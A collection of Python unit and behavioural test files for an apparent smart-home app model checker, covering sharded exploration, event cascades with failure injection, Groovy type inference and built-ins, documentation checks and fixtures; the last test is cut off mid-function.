            state, twin = state.copy(), twin.copy()
            for mutated in (state, twin):
                mutated.set_attribute("motion", "motion", "active")
                mutated.mode = "Away"

    def test_anchor_layout_prefers_quiet_devices(self):
        """Actuators (external-event fanout zero) are always anchored;
        the busiest sensors never are while quieter choices exist."""
        system = _small_system()
        schema = system.state_schema()
        anchored = {entry[0] for entry in schema.anchor_layout}
        assert "hallSwitch" in anchored  # actuator: fanout 0


# -- delta round-trip ---------------------------------------------------------


class TestDeltaRoundTrip:
    @settings(max_examples=100, deadline=None)
    @given(data=st.data())
    def test_apply_inverts_delta(self, data, small_schema):
        base = small_schema.pack(data.draw(_arbitrary_states(small_schema)))
        target = small_schema.pack(
            data.draw(_arbitrary_states(small_schema)))
        delta = small_schema.delta(base, target)
        assert small_schema.apply_delta(base, delta) == target

    @settings(max_examples=100, deadline=None)
    @given(data=st.data())
    def test_delta_of_applied_delta_is_identity(self, data, small_schema):
        base = small_schema.pack(data.draw(_arbitrary_states(small_schema)))
        target = small_schema.pack(
            data.draw(_arbitrary_states(small_schema)))
        delta = small_schema.delta(base, target)
        assert small_schema.delta(
            base, small_schema.apply_delta(base, delta)) == delta

    def test_identical_states_have_empty_delta(self, small_schema):
        system = _small_system()
        packed = system.state_schema().pack(system.initial_state())
        assert small_schema.delta(packed, packed) == ()
        assert small_schema.apply_delta(packed, ()) == packed


# -- corpus-wide equivalence matrix -------------------------------------------


class TestEquivalenceMatrix:
    """Both partitioners x {1,2,3} workers x {exact,collapse} stores."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    @pytest.mark.parametrize("store", ("exact", "collapse"))
    def test_partitioners_match_single_worker(self, group_name, store):
        single = execute_job_inline(_group_job(group_name, visited=store))
        for partition in partitioner_names():
            for workers in (2, 3):
                sharded = explore_sharded(_group_job(
                    group_name, visited=store, workers=workers,
                    partition=partition))
                context = (group_name, store, partition, workers)
                assert sharded.verdict == single.verdict, context
                assert (sorted(sharded.counterexamples)
                        == sorted(single.counterexamples)), context
                assert (sharded.states_explored
                        == single.states_explored), context
                assert (_rendered_traces(sharded)
                        == _rendered_traces(single)), context

    @pytest.mark.parametrize("scenario", ("lossy", "device-death"))
    def test_locality_matches_under_fault_scenarios(self, scenario):
        """Partitioning composes with the non-clean transition
        relations: the fault profiles change *what* is explored, and
        sharding must still not change the answer."""
        group_name = sorted(GROUP_BUILDERS)[0]
        single = execute_job_inline(_group_job(group_name,
                                               scenario=scenario))
        sharded = explore_sharded(_group_job(group_name, scenario=scenario,
                                             workers=2,
                                             partition="locality"))
        assert sharded.verdict == single.verdict
        assert sorted(sharded.counterexamples) \
            == sorted(single.counterexamples)
        assert sharded.states_explored == single.states_explored
        assert _rendered_traces(sharded) == _rendered_traces(single)


# -- handoff and stealing accounting ------------------------------------------


class TestShardAccounting:
    def test_locality_cuts_handoffs(self):
        """The whole point of the projection: on the same workload the
        locality partitioner ships far fewer states than fingerprint
        scatter (and both balance their sent/received ledgers)."""
        group_name = sorted(GROUP_BUILDERS)[1]
        by_partition = {}
        for partition in partitioner_names():
            result = explore_sharded(_group_job(group_name, workers=2,
                                                partition=partition))
            sent = sum(s["handoffs_sent"] for s in result.shard_stats)
            received = sum(s["handoffs_received"]
                           for s in result.shard_stats)
            assert sent == received, partition
            by_partition[partition] = (
                sent, sum(s["handoff_bytes"] for s in result.shard_stats))
        assert by_partition["locality"][0] < by_partition["fingerprint"][0]
        assert by_partition["locality"][1] < by_partition["fingerprint"][1]

    def test_shard_stats_carry_the_new_counters(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        result = explore_sharded(_group_job(group_name, workers=2))
        assert len(result.shard_stats) == 2
        for entry in result.shard_stats:
            for key in ("handoff_bytes", "steals", "stolen_states"):
                assert isinstance(entry[key], int) and entry[key] >= 0
            # the cache watchdog verdict is reported per shard
            assert isinstance(entry["cache_auto_disabled"], bool)
            assert "cache_disable_reason" in entry
        if any(s["handoffs_sent"] for s in result.shard_stats):
            assert sum(s["handoff_bytes"] for s in result.shard_stats) > 0

    def test_counters_survive_the_json_round_trip(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        result = explore_sharded(_group_job(group_name, workers=2))
        restored = ExplorationResult.from_json(result.to_json())
        assert restored.shard_stats == result.shard_stats
        assert restored.workers == result.workers

    def test_summary_mentions_the_wire(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        result = explore_sharded(_group_job(group_name, workers=2))
        assert "handoffs:" in result.summary()


# -- work-stealing primitives -------------------------------------------------


class TestFrontierSteal:
    def _nodes(self, count):
        from repro.engine.core import _Node
        from repro.model.state import ModelState

        return [_Node(ModelState(), depth) for depth in range(count)]

    def test_base_frontier_declines(self):
        from repro.engine.frontier import Frontier
        assert Frontier().steal(4) == []

    def test_dfs_steals_the_stack_top(self):
        from repro.engine.frontier import DepthFirstFrontier
        frontier = DepthFirstFrontier()
        nodes = self._nodes(6)
        for node in nodes:
            frontier.push(node)
        taken = frontier.steal(2)
        # the deepest nodes leave: their subtrees are the smallest, so
        # leasing them bounds the thief's off-owner backflow
        assert taken == nodes[-2:]
        assert frontier.pop() is nodes[-3]
        assert len(frontier) == 3

    def test_bfs_steals_the_queue_back(self):
        from repro.engine.frontier import BreadthFirstFrontier
        frontier = BreadthFirstFrontier()
        nodes = self._nodes(6)
        for node in nodes:
            frontier.push(node)
        taken = frontier.steal(2)
        assert taken == [nodes[-1], nodes[-2]]  # newest layer = deepest
        assert frontier.pop() is nodes[0]
        assert len(frontier) == 3

    def test_priority_steals_the_worst_entries(self):
        from repro.engine.frontier import PriorityFrontier
        frontier = PriorityFrontier(priority=lambda node: node.depth)
        nodes = self._nodes(6)
        for node in nodes:
            frontier.push(node)
        taken = frontier.steal(2)
        assert {node.depth for node in taken} == {4, 5}
        assert frontier.pop() is nodes[0]
        assert len(frontier) == 3


# -- the sharded successor-cache watchdog -------------------------------------


class TestShardedCacheWatchdog:
    def _cache(self, grace_warmup):
        from repro.engine.core import _SuccessorCache
        options = EngineOptions(cache_warmup=8, cache_min_hit_rate=0.5)
        return _SuccessorCache(options, grace_warmup=grace_warmup)

    def test_shard_cache_judged_from_the_first_window(self):
        cache = self._cache(grace_warmup=False)
        for key in range(8):
            assert cache.lookup(key) is None
        assert cache.auto_disabled
        assert cache.disable_reason

    def test_sequential_cache_keeps_the_warmup_grace(self):
        cache = self._cache(grace_warmup=True)
        for key in range(8):
            assert cache.lookup(key) is None
        # still inside the warmup exemption: no verdict yet
        assert not cache.auto_disabled
        for key in range(8, 16):
            cache.lookup(key)
        # first post-warmup window complete: now it is judged
        assert cache.auto_disabled

    def test_shard_engines_opt_out_of_the_grace(self):
        from repro.engine.core import ExplorationEngine
        from repro.engine.parallel import _ShardEngine
        assert ExplorationEngine.cache_grace_warmup is True
        assert _ShardEngine.cache_grace_warmup is False


# -- digest neutrality + API validation ---------------------------------------


class TestPartitionNeutrality:
    def test_partition_does_not_change_the_cache_key(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        keys = {_group_job(group_name, workers=4,
                           partition=partition).cache_key()
                for partition in partitioner_names()}
        assert len(keys) == 1
        assert _group_job(group_name).cache_key() in keys

    def test_api_validates_partition(self):
        from repro.service.api import SubmissionError, VettingService

        options = VettingService._payload_options(
            {"partition": "fingerprint"})
        assert options.partition == "fingerprint"
        with pytest.raises(SubmissionError, match="partition"):
            VettingService._payload_options({"partition": "roundrobin"})
