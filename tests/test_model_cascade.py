"""Unit tests for Algorithm 1: the cascade (sensor update -> dispatch ->
actuator update), including failure injection."""

import pytest

from repro.checker.monitor import SafetyMonitor
from repro.model.cascade import Cascade, FailureScenario, NO_FAILURE
from repro.model.events import ExternalEvent
from repro.properties import build_properties


def run_external(system, ext, scenario=NO_FAILURE, state=None):
    state = state or system.initial_state()
    monitor = SafetyMonitor(system, build_properties())
    cascade = Cascade(system, state, monitor, scenario=scenario)
    violations = cascade.run_external(ext)
    return state, cascade, violations


class TestSensorStateUpdate:
    def test_event_updates_state(self, alice_system):
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        state, _cascade, _violations = run_external(alice_system, ext)
        assert state.attribute("alicePresence", "presence") == "not present"

    def test_no_change_no_event(self, alice_system):
        """Line 8: evt equal to the current state is dropped."""
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="present")
        state, cascade, _violations = run_external(alice_system, ext)
        kinds = [s.kind for s in cascade.steps]
        assert "notify" not in kinds

    def test_clock_advances_per_external_event(self, alice_system):
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        state, _c, _v = run_external(alice_system, ext)
        assert state.time > 0


class TestCascadePropagation:
    def test_presence_drives_mode_and_lock(self, alice_system):
        """The Fig-7 chain in one cascade."""
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        state, cascade, violations = run_external(alice_system, ext)
        assert state.mode == "Away"
        assert state.attribute("doorLock", "lock") == "unlocked"
        assert any(v.property.id == "P06" for v in violations)

    def test_trace_records_handler_steps(self, alice_system):
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        _state, cascade, _violations = run_external(alice_system, ext)
        handlers = [s.text for s in cascade.steps if s.kind == "handler"]
        assert any("Auto Mode Change.presenceHandler" in t for t in handlers)
        assert any("Unlock Door.changedLocationMode" in t for t in handlers)

    def test_app_touch_runs_touch_handler(self, alice_system):
        ext = ExternalEvent("touch", app="Unlock Door")
        state, _cascade, _violations = run_external(alice_system, ext)
        assert state.attribute("doorLock", "lock") == "unlocked"


class TestFailureInjection:
    def test_sensor_drop_updates_ground_truth_silently(self, alice_system):
        """Fig 8b: the physical world changes but no app is notified."""
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        scenario = FailureScenario(FailureScenario.SENSOR_DROP,
                                   "alicePresence")
        state, cascade, _violations = run_external(alice_system, ext,
                                                   scenario)
        assert state.attribute("alicePresence", "presence") == "not present"
        assert state.mode == "Home"  # Auto Mode Change never ran
        assert not any(s.kind == "handler" for s in cascade.steps)

    def test_actuator_drop_keeps_old_state(self, alice_system):
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        scenario = FailureScenario(FailureScenario.ACTUATOR_DROP, "doorLock")
        state, _cascade, violations = run_external(alice_system, ext,
                                                   scenario)
        assert state.attribute("doorLock", "lock") == "locked"

    def test_actuator_drop_raises_robustness_violation(self, alice_system):
        """P45: the app neither verifies the command nor notifies the user."""
        ext = ExternalEvent("sensor", device="alicePresence",
                            attribute="presence", value="not present")
        scenario = FailureScenario(FailureScenario.ACTUATOR_DROP, "doorLock")
        _state, _cascade, violations = run_external(alice_system, ext,
                                                    scenario)
        assert any(v.property.id == "P45" for v in violations)

    def test_failure_scenario_labels(self):
        assert NO_FAILURE.label() == ""
        assert "offline" in FailureScenario(FailureScenario.SENSOR_DROP,
                                            "s").label()


class TestActuatorUpdate:
    def test_unknown_command_is_logged_not_fatal(self, alice_system):
        state = alice_system.initial_state()
        monitor = SafetyMonitor(alice_system, build_properties())
        cascade = Cascade(alice_system, state, monitor)
        cascade.actuator_command("doorLock", "teleport", [], "App")
        assert any("unknown command" in s.text for s in cascade.steps
                   if s.kind == "log")

    def test_no_state_change_no_notification(self, alice_system):
        """Line 17: commanding the current state generates no event."""
        state = alice_system.initial_state()
        monitor = SafetyMonitor(alice_system, build_properties())
        cascade = Cascade(alice_system, state, monitor)
        cascade.actuator_command("doorLock", "lock", [], "App")
        assert not any(s.kind == "notify" for s in cascade.steps)

    def test_command_records_cascade_log(self, alice_system):
        state = alice_system.initial_state()
        monitor = SafetyMonitor(alice_system, build_properties())
        cascade = Cascade(alice_system, state, monitor)
        cascade.actuator_command("doorLock", "unlock", [], "App")
        assert state.cascade_commands == (
            ("doorLock", "unlock", (), "App"),)


class TestModeChanges:
    def test_unknown_mode_rejected(self, alice_system):
        state = alice_system.initial_state()
        monitor = SafetyMonitor(alice_system, build_properties())
        cascade = Cascade(alice_system, state, monitor)
        cascade.set_location_mode("Vacation", "App")
        assert state.mode == "Home"

    def test_same_mode_no_event(self, alice_system):
        state = alice_system.initial_state()
        monitor = SafetyMonitor(alice_system, build_properties())
        cascade = Cascade(alice_system, state, monitor)
        cascade.set_location_mode("Home", "App")
        assert not any(s.kind == "mode" for s in cascade.steps)


class TestInternalEventBudget:
    def test_mirror_pair_converges_without_budget(self, generator):
        """Same-polarity mirrors converge: re-commanding the current state
        produces no event (Algorithm 1 line 17), so no infinite loop."""
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration()
        config.add_device("a", "smart-outlet")
        config.add_device("b", "smart-outlet")
        config.add_device("m", "smartsense-motion")
        config.add_app("Switch Mirror", {"master": "a", "slaves": ["b"]},
                       instance_name="m1")
        config.add_app("Switch Mirror", {"master": "b", "slaves": ["a"]},
                       instance_name="m2")
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "a"})
        system = generator.build(config)
        ext = ExternalEvent("sensor", device="m", attribute="motion",
                            value="active")
        state, cascade, _violations = run_external(system, ext)
        assert state.attribute("b", "switch") == "on"
        assert not any("budget" in s.text for s in cascade.steps
                       if s.kind == "log")

    def test_oscillating_apps_cut_by_budget(self, registry):
        """A mirror plus an inverter oscillate forever; the per-cascade
        internal-event budget cuts the loop."""
        from repro.config.schema import SystemConfiguration
        from repro.model.generator import ModelGenerator
        from tests.helpers import make_app

        inverter = make_app('''
definition(name: "Inverter", namespace: "t", author: "t",
           description: "d", category: "c")
preferences { section("s") {
    input "master", "capability.switch"
    input "slave", "capability.switch"
} }
def installed() { subscribe(master, "switch", flip) }
def flip(evt) {
    if (evt.value == "on") { slave.off() } else { slave.on() }
}
''')
        apps = dict(registry)
        apps["Inverter"] = inverter
        config = SystemConfiguration()
        config.add_device("a", "smart-outlet")
        config.add_device("b", "smart-outlet")
        config.add_device("m", "smartsense-motion")
        config.add_app("Switch Mirror", {"master": "a", "slaves": ["b"]})
        config.add_app("Inverter", {"master": "b", "slave": "a"})
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "a"})
        system = ModelGenerator(apps).build(config)
        ext = ExternalEvent("sensor", device="m", attribute="motion",
                            value="active")
        _state, cascade, _violations = run_external(system, ext)
        assert any("budget" in s.text for s in cascade.steps
                   if s.kind == "log")
