"""Unit tests for type inference (§6: "Implicit Types")."""

from repro.translator import types as T
from repro.translator.types import infer_app_types

from tests.helpers import make_app

_HEADER = '''
definition(name: "Typed", namespace: "t", author: "t",
           description: "d", category: "c")

preferences {
    section("devices") {
        input "switch1", "capability.switch", title: "S"
        input "outlets", "capability.switch", title: "O", multiple: true
        input "setpoint", "decimal", title: "Temp"
        input "minutes", "number", title: "Min", required: false
        input "mode1", "enum", title: "M", options: ["heat", "cool"]
    }
}
'''


def infer(body):
    return infer_app_types(make_app(_HEADER + body))


class TestInputAnchors:
    def test_single_device_input(self):
        engine = infer("")
        assert engine.globals["switch1"] == T.device("switch")

    def test_multiple_device_input_is_list(self):
        engine = infer("")
        assert engine.globals["outlets"] == T.list_of(T.device("switch"))

    def test_decimal_input(self):
        assert infer("").globals["setpoint"] == T.DECIMAL

    def test_number_input(self):
        assert infer("").globals["minutes"] == T.INT

    def test_enum_input_is_string(self):
        assert infer("").globals["mode1"] == T.STRING

    def test_state_is_map(self):
        assert infer("").globals["state"] == T.MAP


class TestLocalInference:
    def test_constant_assignment_anchor(self):
        # "we can infer that the type of variable a is numeric from def a = 0"
        engine = infer("def f() { def a = 0\n return a }")
        assert engine.methods["f"].locals["a"] == T.INT

    def test_string_assignment(self):
        engine = infer("def f() { def s = 'hi'\n return s }")
        assert engine.methods["f"].locals["s"] == T.STRING

    def test_boolean_assignment(self):
        engine = infer("def f() { def b = true\n return b }")
        assert engine.methods["f"].locals["b"] == T.BOOLEAN

    def test_propagation_through_assignment(self):
        engine = infer("def f() { def a = 1\n def b = a\n return b }")
        assert engine.methods["f"].locals["b"] == T.INT

    def test_input_propagates_to_local(self):
        engine = infer("def f() { def s = switch1\n return s }")
        assert engine.methods["f"].locals["s"] == T.device("switch")

    def test_declared_type_wins(self):
        engine = infer("def f() { int i = 0\n return i }")
        assert engine.methods["f"].locals["i"] == T.INT


class TestReturnInference:
    def test_return_type_from_literal(self):
        engine = infer("def f() { return 42 }")
        assert engine.methods["f"].return_type == T.INT

    def test_return_type_of_list_concat(self):
        # the paper's Figure 6: switches + onSwitches -> List of STSwitch
        engine = infer("private onSwitches() { outlets + outlets }")
        assert engine.methods["onSwitches"].return_type == T.list_of(
            T.device("switch"))

    def test_handler_param_is_event(self):
        source = '''
def installed() { subscribe(switch1, "switch.on", onHandler) }
def onHandler(evt) { evt.value }
'''
        engine = infer(source)
        assert engine.methods["onHandler"].params["evt"] == T.EVENT


class TestJoin:
    def test_join_unknown_identity(self):
        assert T.join(T.UNKNOWN, T.INT) == T.INT
        assert T.join(T.INT, T.UNKNOWN) == T.INT

    def test_join_same(self):
        assert T.join(T.STRING, T.STRING) == T.STRING

    def test_join_numeric_widens(self):
        assert T.join(T.INT, T.DECIMAL) == T.DECIMAL

    def test_join_conflicting_is_object(self):
        assert T.join(T.STRING, T.INT) == T.OBJECT

    def test_list_covariance(self):
        joined = T.join(T.list_of(T.INT), T.list_of(T.DECIMAL))
        assert joined == T.list_of(T.DECIMAL)


class TestGType:
    def test_equality(self):
        assert T.GType("int") == T.GType("int")
        assert T.GType("List", T.INT) == T.list_of(T.INT)

    def test_hashable(self):
        assert len({T.INT, T.GType("int"), T.STRING}) == 2

    def test_device_type_name(self):
        assert T.device("switch").tag == "STSwitch"
        assert T.device("motionSensor").tag == "STMotionSensor"

    def test_repr_of_list(self):
        assert repr(T.list_of(T.INT)) == "List<int>"
