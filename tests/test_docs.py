"""The documentation satellite: site pages, links, docstrings, CLI drift.

Four contracts keep the docs honest without any docs dependency:

* the mkdocs site has every promised page, populated (no stubs);
* every internal link and anchor in ``docs/`` and the README resolves
  (``scripts/check_docs_links.py`` - the offline twin of
  ``mkdocs build --strict``);
* the least-documented packages carry module and public-API docstrings
  (``scripts/check_docstrings.py`` - the stdlib twin of the CI ruff
  D1xx rule);
* every ``python -m repro ...`` invocation shown in the README or the
  docs uses a real subcommand with real flags - the audit that catches
  README/--help drift the moment a command changes.
"""

import os
import re
import subprocess
import sys

import pytest

from repro.cli import build_parser

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DOCS = os.path.join(ROOT, "docs")

EXPECTED_PAGES = ("index.md", "architecture.md", "performance.md",
                  "service-api.md", "schemas.md", "swarm.md")


def _read(path):
    with open(path, "r", encoding="utf-8") as handle:
        return handle.read()


def _run_script(name):
    return subprocess.run(
        [sys.executable, os.path.join(ROOT, "scripts", name)],
        capture_output=True, text=True)


# -- site shape ---------------------------------------------------------------


class TestDocsSite:
    @pytest.mark.parametrize("page", EXPECTED_PAGES)
    def test_page_exists_and_is_populated(self, page):
        path = os.path.join(DOCS, page)
        assert os.path.exists(path), "docs/%s is missing" % page
        text = _read(path)
        # "populated, no stub pages": real prose and real structure
        assert len(text) > 2000, "docs/%s looks like a stub" % page
        assert text.startswith("# "), "docs/%s has no title" % page
        assert text.count("\n## ") >= 2, "docs/%s has no sections" % page

    def test_mkdocs_config_lists_every_page(self):
        config = _read(os.path.join(ROOT, "mkdocs.yml"))
        for page in EXPECTED_PAGES:
            assert page in config, "mkdocs nav misses %s" % page
        assert "strict: true" in config

    def test_linkcheck_passes(self):
        outcome = _run_script("check_docs_links.py")
        assert outcome.returncode == 0, outcome.stdout + outcome.stderr

    def test_docstring_lint_passes(self):
        outcome = _run_script("check_docstrings.py")
        assert outcome.returncode == 0, outcome.stdout + outcome.stderr


# -- CLI drift audit ----------------------------------------------------------


def _subcommands():
    """verb -> set of option strings, introspected from the real parser."""
    parser = build_parser()
    subactions = None
    for action in parser._actions:
        if hasattr(action, "choices") and isinstance(action.choices, dict):
            subactions = action.choices
            break
    assert subactions, "repro CLI has no subcommands?"
    table = {}
    for verb, subparser in subactions.items():
        options = set()
        for sub_action in subparser._actions:
            options.update(sub_action.option_strings)
        table[verb] = options
    return table


#: ``python -m repro <verb> <args...>`` up to the end of line/pipe
_INVOCATION = re.compile(r"python -m repro\s+([a-z]+)([^\n|#]*)")
_FLAG = re.compile(r"(--[a-z][a-z0-9-]*)")


def _documented_invocations():
    sources = [os.path.join(ROOT, "README.md")]
    sources += [os.path.join(DOCS, entry) for entry in sorted(os.listdir(DOCS))
                if entry.endswith(".md")]
    for path in sources:
        for match in _INVOCATION.finditer(_read(path)):
            verb, rest = match.group(1), match.group(2)
            yield (os.path.relpath(path, ROOT), verb,
                   set(_FLAG.findall(rest)))


class TestCliDriftAudit:
    def test_every_documented_invocation_is_real(self):
        table = _subcommands()
        problems = []
        for source, verb, flags in _documented_invocations():
            if verb not in table:
                problems.append("%s documents unknown command %r"
                                % (source, verb))
                continue
            for flag in sorted(flags - table[verb]):
                problems.append("%s: `repro %s` has no flag %s"
                                % (source, verb, flag))
        assert not problems, "\n".join(problems)

    def test_readme_covers_every_subcommand(self):
        """The README's CLI overview must at least name every verb the
        parser registers - the PR-4 serve/submit/results/gc drift bar."""
        readme = _read(os.path.join(ROOT, "README.md"))
        for verb in _subcommands():
            assert re.search(r"`(?:repro )?%s`" % verb, readme) or (
                "repro %s" % verb) in readme, (
                "README never mentions the %r subcommand" % verb)

    def test_check_workers_flag_exists(self):
        table = _subcommands()
        assert "--workers" in table["check"]
        assert "--shard-workers" in table["batch"]
        assert "--shard-workers" in table["serve"]
        assert "--shard-workers" in table["submit"]
