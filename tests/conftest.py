"""Shared fixtures: the corpus registry and small bound systems."""

import pytest

from repro.config.schema import SystemConfiguration
from repro.corpus import (
    CorpusMissingError,
    load_all_apps,
    load_malicious_apps,
    load_market_apps,
)
from repro.model.generator import ModelGenerator


def _load_or_skip(loader):
    """Load a corpus collection, skipping (not erroring) when absent.

    A missing corpus is an installation problem, not a code regression;
    corpus-dependent tests skip with a pointer instead of erroring the
    whole collection run.
    """
    try:
        return loader()
    except CorpusMissingError as exc:
        pytest.skip("bundled corpus unavailable: %s" % exc)


@pytest.fixture(scope="session")
def registry():
    """The full corpus (market + malicious), parsed once per session."""
    return _load_or_skip(load_all_apps)


@pytest.fixture(scope="session")
def market_apps():
    return _load_or_skip(load_market_apps)


@pytest.fixture(scope="session")
def malicious_apps():
    return _load_or_skip(load_malicious_apps)


@pytest.fixture(scope="session")
def generator(registry):
    return ModelGenerator(registry)


@pytest.fixture()
def alice_config():
    """The paper's running example: presence + lock, two apps (§8)."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence",
                      "Alice's Presence")
    config.add_device("doorLock", "zwave-lock", "Door Lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    return config


@pytest.fixture()
def alice_system(generator, alice_config):
    return generator.build(alice_config)

