"""Unit tests for Groovy built-in utilities (§6: find, findAll, each,
collect, first, + on lists, map, ...)."""

import pytest

from repro.translator.builtins import (
    call_builtin,
    is_groovy_truthy,
    to_groovy_string,
)


def invoke(closure, args):
    """Closure stand-in: tests pass plain Python callables."""
    return closure(*args)


def call(receiver, name, *args, closure=None):
    handled, result = call_builtin(receiver, name, list(args), closure, invoke)
    assert handled, "builtin %r not handled for %r" % (name, receiver)
    return result


class TestListBuiltins:
    def test_each_visits_all(self):
        seen = []
        call([1, 2, 3], "each", closure=lambda it: seen.append(it))
        assert seen == [1, 2, 3]

    def test_each_with_index(self):
        seen = []
        call(["a", "b"], "eachWithIndex",
             closure=lambda it, i: seen.append((it, i)))
        assert seen == [("a", 0), ("b", 1)]

    def test_find_returns_first_match(self):
        assert call([1, 5, 8], "find", closure=lambda it: it > 3) == 5

    def test_find_returns_none_when_absent(self):
        assert call([1, 2], "find", closure=lambda it: it > 9) is None

    def test_find_all(self):
        assert call([1, 5, 8], "findAll", closure=lambda it: it > 3) == [5, 8]

    def test_collect(self):
        assert call([1, 2], "collect", closure=lambda it: it * 10) == [10, 20]

    def test_any(self):
        assert call([1, 2], "any", closure=lambda it: it == 2) is True
        assert call([1, 2], "any", closure=lambda it: it == 9) is False

    def test_every(self):
        assert call([2, 4], "every", closure=lambda it: it % 2 == 0) is True
        assert call([2, 3], "every", closure=lambda it: it % 2 == 0) is False

    def test_first_and_last(self):
        assert call([7, 8, 9], "first") == 7
        assert call([7, 8, 9], "last") == 9

    def test_size(self):
        assert call([1, 2, 3], "size") == 3

    def test_contains(self):
        assert call([1, 2], "contains", 2) is True
        assert call([1, 2], "contains", 5) is False

    def test_sum(self):
        assert call([1, 2, 3], "sum") == 6

    def test_sum_with_closure(self):
        assert call([1, 2], "sum", closure=lambda it: it * 10) == 30

    def test_count(self):
        assert call([1, 2, 2, 3], "count", 2) == 2

    def test_count_with_closure(self):
        assert call([1, 2, 3], "count", closure=lambda it: it > 1) == 2

    def test_sort_is_stable_copy(self):
        original = [3, 1, 2]
        assert call(original, "sort") == [1, 2, 3]

    def test_join(self):
        assert call(["a", "b"], "join", ",") == "a,b"

    def test_unique(self):
        assert call([1, 2, 2, 1], "unique") == [1, 2]

    def test_reverse(self):
        assert call([1, 2, 3], "reverse") == [3, 2, 1]

    def test_min_max(self):
        assert call([5, 1, 9], "min") == 1
        assert call([5, 1, 9], "max") == 9

    def test_flatten(self):
        assert call([[1, 2], [3]], "flatten") == [1, 2, 3]

    def test_is_empty(self):
        assert call([], "isEmpty") is True
        assert call([1], "isEmpty") is False

    def test_intersect(self):
        assert call([1, 2, 3], "intersect", [2, 3, 4]) == [2, 3]


class TestMapBuiltins:
    def test_map_each_entries(self):
        seen = {}
        call({"a": 1}, "each", closure=lambda entry: seen.update(
            {entry.key: entry.value}))
        assert seen == {"a": 1}

    def test_map_contains_key(self):
        assert call({"a": 1}, "containsKey", "a") is True
        assert call({"a": 1}, "containsKey", "b") is False

    def test_map_size(self):
        assert call({"a": 1, "b": 2}, "size") == 2

    def test_map_get_with_default(self):
        assert call({"a": 1}, "get", "b", 7) == 7


class TestStringBuiltins:
    def test_to_integer(self):
        assert call("42", "toInteger") == 42

    def test_to_upper_lower(self):
        assert call("abc", "toUpperCase") == "ABC"
        assert call("ABC", "toLowerCase") == "abc"

    def test_contains(self):
        assert call("hello", "contains", "ell") is True

    def test_starts_ends_with(self):
        assert call("hello", "startsWith", "he") is True
        assert call("hello", "endsWith", "lo") is True

    def test_trim(self):
        assert call(" x ", "trim") == "x"

    def test_split(self):
        assert call("a,b", "split", ",") == ["a", "b"]

    def test_is_number(self):
        assert call("12", "isNumber") is True
        assert call("twelve", "isNumber") is False


class TestNumberBuiltins:
    def test_to_integer_rounds_down(self):
        assert call(3.9, "toInteger") == 3

    def test_int_to_string(self):
        assert call(42, "toString") == "42"


class TestGroovySemantics:
    def test_truthiness_of_collections(self):
        assert is_groovy_truthy([1]) is True
        assert is_groovy_truthy([]) is False
        assert is_groovy_truthy({}) is False
        assert is_groovy_truthy("") is False
        assert is_groovy_truthy("x") is True

    def test_truthiness_of_numbers(self):
        assert is_groovy_truthy(0) is False
        assert is_groovy_truthy(0.0) is False
        assert is_groovy_truthy(-1) is True

    def test_truthiness_of_null(self):
        assert is_groovy_truthy(None) is False

    def test_to_groovy_string_for_bool(self):
        assert to_groovy_string(True) == "true"
        assert to_groovy_string(False) == "false"

    def test_to_groovy_string_for_null(self):
        assert to_groovy_string(None) == "null"

    def test_to_groovy_string_for_int_valued_float(self):
        assert to_groovy_string(3.0) in ("3", "3.0")

    def test_unknown_builtin_not_handled(self):
        handled, _ = call_builtin([1], "definitelyNotAMethod", [], None, invoke)
        assert handled is False
