"""Behavioural tests for representative market apps.

Each test installs one real corpus app in a minimal home, fires events,
and checks the physical effect - validating that our Groovy frontend +
interpreter reproduce each app's documented behaviour.
"""

import pytest

from repro.checker.monitor import SafetyMonitor
from repro.config.schema import SystemConfiguration
from repro.model.cascade import Cascade
from repro.model.events import ExternalEvent
from repro.properties import build_properties


def drive(generator, config, events):
    """Build the system and apply external events; returns final state."""
    system = generator.build(config)
    state = system.initial_state()
    for ext in events:
        monitor = SafetyMonitor(system, build_properties())
        cascade = Cascade(system, state, monitor)
        cascade.run_external(ext)
    return system, state


def sensor(device, attribute, value):
    return ExternalEvent("sensor", device=device, attribute=attribute,
                         value=value)


def timer(app, handler):
    return ExternalEvent("timer", app=app, handler=handler)


class TestVirtualThermostat:
    def _config(self, outlets, mode):
        config = SystemConfiguration()
        config.add_device("t", "temperature-sensor")
        config.add_device("heaterOutlet", "smart-outlet")
        config.add_device("acOutlet", "smart-outlet")
        config.add_device("m", "smartsense-motion")
        config.add_app("Virtual Thermostat", {
            "sensor": "t", "outlets": outlets, "setpoint": 75,
            "motion": "m", "minutes": 10, "emergencySetpoint": 85,
            "mode": mode})
        return config

    def test_cool_mode_turns_on_above_setpoint(self, generator):
        # recent motion makes the comfort setpoint (75) the target
        _system, state = drive(generator, self._config(["acOutlet"], "cool"),
                               [sensor("m", "motion", "active"),
                                sensor("t", "temperature", 85)])
        assert state.attribute("acOutlet", "switch") == "on"

    def test_cool_mode_off_below_setpoint(self, generator):
        _system, state = drive(generator, self._config(["acOutlet"], "cool"),
                               [sensor("m", "motion", "active"),
                                sensor("t", "temperature", 85),
                                sensor("t", "temperature", 65)])
        assert state.attribute("acOutlet", "switch") == "off"

    def test_heat_mode_turns_on_below_setpoint(self, generator):
        _system, state = drive(generator,
                               self._config(["heaterOutlet"], "heat"),
                               [sensor("m", "motion", "active"),
                                sensor("t", "temperature", 55)])
